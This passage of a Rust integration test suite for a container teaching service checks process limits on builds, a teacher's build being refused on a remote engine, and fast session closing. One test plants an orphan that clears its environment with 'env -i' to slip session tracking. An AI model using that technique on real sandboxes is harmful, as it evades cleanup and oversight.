    // A hundred at once is past the limit of the whole build: the step cannot fork.
    let context = crate::builds::context(&app, &teacher, &forking(100)).await;
    let (log, ended) = build(&mut ws, 2, &context, &crate::builds::unique_tag()).await;
    assert_eq!(ended["type"], "error", "{ended}");
    assert!(!log.iter().any(|l| l.starts_with("forked")), "{log:?}");
    assert!(log.iter().any(|l| l.contains("can't fork")), "{log:?}");

    // On an engine reached over the network berth cannot make the cgroup: a teacher's build is
    // refused, saying why; an admin's runs, its log saying it has no process limit.
    let pem = |file: &str| {
        std::fs::read_to_string(format!("{}/{file}", crate::helpers::ENGINE2_TLS_DIR)).unwrap()
    };
    let tls = json!({"ca": pem("ca.pem"), "cert": pem("cert.pem"), "key": pem("key.pem")});
    let host = json!({"name": "remote", "url": crate::helpers::ENGINE2_TLS, "tls": tls});
    let added = app.post("/api/v1/hosts", Some(&admin.token), host).await;
    assert_eq!(added.status(), 201);
    let labelled = format!("FROM scratch\nLABEL berth.test={}\n", uuid::Uuid::new_v4());
    let tag = crate::builds::unique_tag();
    for (user, stream) in [(&teacher, 3), (&admin, 4)] {
        let context = crate::builds::context(&app, user, &labelled).await;
        let mut ws = app.ws(&user.token).await;
        let (log, ended) = build_on(&mut ws, Some("remote"), stream, &context, &tag).await;
        if user.token == teacher.token {
            assert_eq!(ended["code"], "unavailable", "{ended}");
            let message = ended["message"].as_str().unwrap();
            assert!(message.contains("builds.pids"), "{message}");
        } else {
            assert_eq!(ended["type"], "end", "{ended}");
            assert!(
                log.iter().any(|l| l.contains("no process limit")),
                "{log:?}"
            );
        }
    }
    let removed = std::process::Command::new("docker")
        .args(["-H", crate::helpers::ENGINE2_SOCKET, "rmi", &tag])
        .output()
        .unwrap();
    assert!(
        removed.status.success(),
        "the admin's image was not on the remote engine"
    );
}

#[tokio::test]
async fn a_process_that_empties_its_environment_still_dies_with_the_session() {
    let app = spawn_app().await;
    let student = app.new_user().await;
    let container = app.running_container(&student, &["sleep", "3600"]).await;
    let mut ws = app.ws(&student.token).await;
    // The marker berth looks for is gone from the sleep's environment, and its parent exits.
    ws.exec(
        1,
        &container,
        &[
            "sh",
            "-c",
            "env -i sh -c 'sleep 4848 &'; echo ready; sleep 4849",
        ],
        false,
    )
    .await;
    ws.read_until(1, "ready").await;
    let orphan = crate::helpers::eventually(std::time::Duration::from_secs(3), || {
        crate::helpers::processes_matching(&container, "sleep 4848").len() == 1
    })
    .await;
    assert!(orphan.is_some(), "the orphan did not start");
    let environ = std::process::Command::new("docker")
        .args(["exec", &container, "sh", "-c",
               "for p in /proc/[0-9]*; do grep -q 'sleep.4848' $p/cmdline 2>/dev/null && cat $p/environ; done"])
        .output()
        .unwrap();
    assert!(
        !String::from_utf8_lossy(&environ.stdout).contains("BERTH_EXEC"),
        "the orphan still carries the marker"
    );
    ws.close().await;
    let gone = crate::helpers::eventually(std::time::Duration::from_secs(8), || {
        crate::helpers::processes_matching(&container, "sleep 484").is_empty()
    })
    .await;
    assert!(
        gone.is_some(),
        "left running: {:?}",
        crate::helpers::processes_matching(&container, "sleep 484")
    );
}

#[tokio::test]
async fn a_closed_session_is_answered_and_its_connection_ends_at_once() {
    let app = spawn_app().await;
    let student = app.new_user().await;
    let container = app.running_container(&student, &["sleep", "3600"]).await;
    let mut slowest = std::time::Duration::ZERO;
    for n in 0..10u8 {
        let mut ws = app.ws(&student.token).await;
        ws.exec(1, &container, &["echo", "hi"], false).await;
        ws.collect(1).await;
        slowest = slowest.max(ws.close_and_wait().await);
        let _ = n;
    }
    // It took 0.5–1 s each before: actix lingered on the connection after the session ended.
    assert!(
        slowest < std::time::Duration::from_millis(300),
        "a close took {slowest:?}"
    );
}
